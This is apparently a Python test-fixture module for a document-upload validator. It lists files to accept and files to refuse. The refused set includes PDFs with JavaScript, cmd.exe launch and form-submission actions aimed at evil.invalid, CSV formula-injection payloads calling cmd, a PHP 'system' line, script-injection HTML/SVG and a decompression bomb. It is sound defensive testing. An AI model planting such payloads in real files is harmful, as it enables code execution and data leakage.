"""Files that could be uploaded as a document: valid ones, invalid ones, and ones with actions."""

import zlib


def pdf(catalog="", *objects, trailer=""):
    """Return a PDF with an addition to its catalog, and with objects from number 2 on."""
    numbered = enumerate([f"<</Type/Catalog{catalog}>>", *objects], 1)
    body = b"".join(b"%d 0 obj%s endobj\n" % (n, _bytes(o)) for n, o in numbered)
    return b"%PDF-1.7\n" + body + f"trailer<</Root 1 0 R{trailer}>>\n%%EOF".encode()


def stream(content, dictionary="", packed=None, filters="/FlateDecode"):
    packed = zlib.compress(_bytes(content)) if packed is None else packed
    return b"<<%s/Filter%s/Length %d>>\nstream\n%s\nendstream" % (
        dictionary.encode(),
        filters.encode(),
        len(packed),
        packed,
    )


def object_stream(*objects, number=8, dictionary="", **kwargs):
    """Return an object stream with objects numbered from `number` on."""
    numbers, body = [], ""
    for own, content in enumerate(objects, number):
        numbers.append(f"{own} {len(body)}")
        body += content + " "
    header = " ".join(numbers) + " "
    own = f"/Type/ObjStm/N {len(objects)}/First {len(header)}{dictionary}"
    return stream(header + body, own, **kwargs)


def _bytes(content):
    return content if isinstance(content, bytes) else content.encode()


SCRIPT = "<script>window.pwned=1</script>"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
ARCHIVE = b"PK\x03\x04" + bytes(100)

SOUND = {
    "verdict.pdf": PDF,
    "VERDICT.PDF": PDF,
    "link.pdf": pdf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org/)>>>>"),
    "first-page.pdf": pdf("/OpenAction[2 0 R /XYZ null null 0]"),
    "first-page-by-action.pdf": pdf("/OpenAction<</Type/Action /S/GoTo /D[2 0 R /Fit]>>"),
    "first-page-elsewhere.pdf": pdf("/OpenAction 2 0 R", "<< /S /GoTo /D [1 0 R /Fit] >>"),
    "first-page-packed.pdf": pdf(
        "/OpenAction 9 0 R",
        object_stream("<</S/URI/URI(https://example.org/)>>", "<</S/GoTo/D[1 0 R/Fit]>>"),
    ),
    "drawing.pdf": pdf("", stream("0.1 w /Launcher gs (JavaScript) Tj"), stream(bytes(10_000))),
    "notes.txt": "Вельмішаноўны спадар, 1 < 2 & 3 > 2".encode(),
    "notes-with-mark.txt": "\ufeffЗаметки".encode(),
    "prisoners.csv": "name,day,sum\nБяляцкі,2021-07-14,-5\nX,,+375 17 222\n".encode(),
    "semicolons.csv": b"name;days\nX;-5,5\n",
}

REFUSED = {
    "nothing.pdf": b"",
    "nothing.txt": b"",
    "page.html": SCRIPT.encode(),
    "page.htm": SCRIPT.encode(),
    "page.xhtml": SCRIPT.encode(),
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "script.js": b"window.pwned=1",
    "script.php": b"<?php system('id') ?>",
    "script.sh": b"#!/bin/sh\nid\n",
    "program.exe": b"MZ" + bytes(100),
    "program.pdf.exe": b"MZ" + bytes(100),
    "program.pdf": b"MZ" + bytes(100),
    "page.pdf": SCRIPT.encode(),
    "page-first.pdf": SCRIPT.encode() + PDF,
    "page.txt": f"Hello {SCRIPT}".encode(),
    "doctype.txt": b"<!DOCTYPE html><p>x",
    "drawing.txt": b"<svg onload=x>",
    "xml.txt": b"<?xml version='1.0'?><x/>",
    "shell.txt": b"#!/bin/sh\nid\n",
    "binary.txt": bytes(range(256)),
    "nul.txt": b"a\0b",
    "utf-16.txt": "Текст".encode("utf-16"),
    "cp1251.txt": "Тэкст ліста".encode("cp1251", "replace"),
    "formula.csv": b"name,sum\nX,=1+1\n",
    "command.csv": b"=cmd|' /C calc'!A0\n",
    "plus.csv": b"name\n+1+cmd|' /C calc'!A0\n",
    "minus.csv": b"name\n-2+3+cmd|' /C calc'!A0\n",
    "at.csv": b"name\n@SUM(1)\n",
    "quoted.csv": b'name\n"=1+1"\n',
    "blank-before.csv": b'name\n" =1+1"\n',
    "tab-before.csv": b'name\n"\t=1+1"\n',
    "semicolon.csv": b"name;sum\nX;=1+1\n",
    "bar.csv": b"name|sum\nX|=1+1\n",
    "sep.csv": b"sep=!\nname!=1+1\n",
    "wide.csv": "name\n＝1+1\n".encode(),
    "page.csv": SCRIPT.encode(),
    "letter.docx": ARCHIVE,
    "letter.odt": ARCHIVE,
    "letter.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "letter.rtf": b"{\\rtf1 x}",
    "letter-named.pdf": ARCHIVE,
    "pdf-named.docx": PDF,
    "script.pdf": pdf("/OpenAction 2 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "script-spelt.pdf": pdf("", "<</S/J#61vaScript/JS(x)>>"),
    "script-by-name.pdf": pdf("/Names<</JavaScript 2 0 R>>"),
    "script-packed.pdf": pdf("", object_stream("<</S/JavaScript/JS(x)>>")),
    "script-packed-and-spelt.pdf": pdf("", object_stream("<</S/JavaScri#70t/JS(x)>>")),
    "script-packed-as-nothing.pdf": pdf("", stream("8 0 <</S/JavaScript/JS(x)>>")),
    "script-after-a-comment.pdf": pdf("", stream("%x\n8 0 <</S/JavaScript/JS(x)>>")),
    "type-spelt.pdf": pdf("", stream(b"x", "/Type/Obj#53tm", packed=b"x")),
    "packed-otherwise.pdf": pdf("", object_stream("x", filters="/LZWDecode")),
    "packed-again.pdf": pdf("", object_stream("x", filters="[/FlateDecode/AHx]")),
    "packed-in-two-ways.pdf": pdf("", object_stream("x", dictionary="/Filter/AHx")),
    "packed-by-rows.pdf": pdf("", object_stream("x", dictionary="/DecodeParms 7 0 R")),
    "string-in-dictionary.pdf": pdf("", object_stream("x", dictionary="/X(>>stream)")),
    "damaged.pdf": pdf("", object_stream("x", packed=b"x\x9c damaged")),
    "starts-a-program.pdf": pdf("", "<</S/Launch/F(cmd.exe)>>"),
    "sends-a-form.pdf": pdf("", "<</S/SubmitForm/F(https://evil.invalid/)>>"),
    "reads-a-form.pdf": pdf("", "<</S/ImportData/F(x)>>"),
    "other-file.pdf": pdf("", "<</S/GoToR/F(\\\\\\\\evil.invalid\\\\x)>>"),
    "file-inside.pdf": pdf("", "<</EF 3 0 R/Type/EmbeddedFile>>"),
    "player.pdf": pdf("", "<</Subtype/RichMedia>>"),
    "form-of-xml.pdf": pdf("/AcroForm<</XFA 3 0 R>>"),
    "page-opened.pdf": pdf("/AA<</WC 2 0 R>>"),
    "page-opened-elsewhere.pdf": pdf("", "<</Type/Page/AA 3 0 R>>"),
    "page-opened-after-a-comment.pdf": pdf("", "<</Type/Page/AA%" + "x" * 300 + "\n<<>>>>"),
    "address-opened.pdf": pdf("/OpenAction<</S/URI/URI(https://evil.invalid/)>>"),
    "address-opened-elsewhere.pdf": pdf("/OpenAction 2 0 R", "<</S/URI/URI(https://x.invalid/)>>"),
    "address-opened-packed.pdf": pdf(
        "/OpenAction 9 0 R",
        object_stream("<</S/GoTo/D[1 0 R/Fit]>>", "<</S/URI/URI(https://evil.invalid/)>>"),
    ),
    "address-opened-next.pdf": pdf("/OpenAction<</S/GoTo/D[1 0 R]/Next 2 0 R>>"),
    "address-in-a-later-version.pdf": pdf("/OpenAction 2 0 R", "[1 0 R/Fit]")
    + b"2 %x\n0 obj<</S/URI/URI(https://evil.invalid/)>>endobj",
    "nothing-opened.pdf": pdf("/OpenAction 7 0 R"),
    "many-opened.pdf": pdf("".join(f"/OpenAction {n} 0 R" for n in range(2, 7)), *["[]"] * 5),
    "locked.pdf": pdf(trailer="/Encrypt 3 0 R"),
    "bomb.pdf": pdf("", object_stream(" " * 70 * 2**20)),
    "many-streams.pdf": pdf() + b"stream\nendstream " * 50_100,
    "many-escapes.pdf": pdf() + b"/#41" * 50_100,
    "without-end.pdf": pdf() + b"stream\n",
    "picture.pdf": b"\x89PNG\r\n\x1a\n",
    "no-extension": PDF,
    "large.pdf": PDF + bytes(20 * 2**20),
}
